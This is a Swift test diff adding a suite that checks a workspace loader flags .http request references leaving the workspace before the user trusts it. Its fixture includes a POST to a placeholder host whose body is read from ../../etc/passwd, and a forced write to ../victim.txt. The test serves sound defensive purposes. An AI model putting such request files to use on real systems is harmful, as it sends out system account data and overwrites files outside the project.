@@ -68,3 +68,38 @@ import Testing
         #expect(throws: TrustError.self) { try TrustStore(file: nil).trust(repo) }
     }
 }
+
+/// What a workspace would reach outside itself, found without sending: shown before the user trusts it.
+@Suite struct OutsideReferenceTests {
+    @Test func outputsAndIncludesThatLeaveTheWorkspaceAreListedWithTheirLines() throws {
+        let folder = try TemporaryFolder(prefix: "ferry-reach")
+        let repo = folder.url.appendingPathComponent("repo")
+        try FileManager.default.createDirectory(at: repo, withIntermediateDirectories: true)
+        let text = """
+            ### Out
+            POST http://h/a
+            Content-Type: text/plain
+
+            < ../../etc/passwd
+
+            >>! ../victim.txt
+
+            ### In
+            GET http://h/b
+
+            >> ./out.json
+
+            ### Variable
+            GET http://h/c
+
+            >> {{dir}}/x.json
+
+            """
+        try Data(text.utf8).write(to: repo.appendingPathComponent("a.http"))
+        let found = try Workspace.load(at: repo).outsideReferences()
+        #expect(found.map(\.path) == ["../../etc/passwd", "../victim.txt", "{{dir}}/x.json"], "\(found)")
+        #expect(found.map(\.kind) == [.reads, .writes, .writes])
+        #expect(found.map(\.location.line) == [5, 7, 17], "\(found)")
+        #expect(found[1].description.hasPrefix("a.http:7:1: writes ../victim.txt ("), "\(found[1])")
+    }
+}
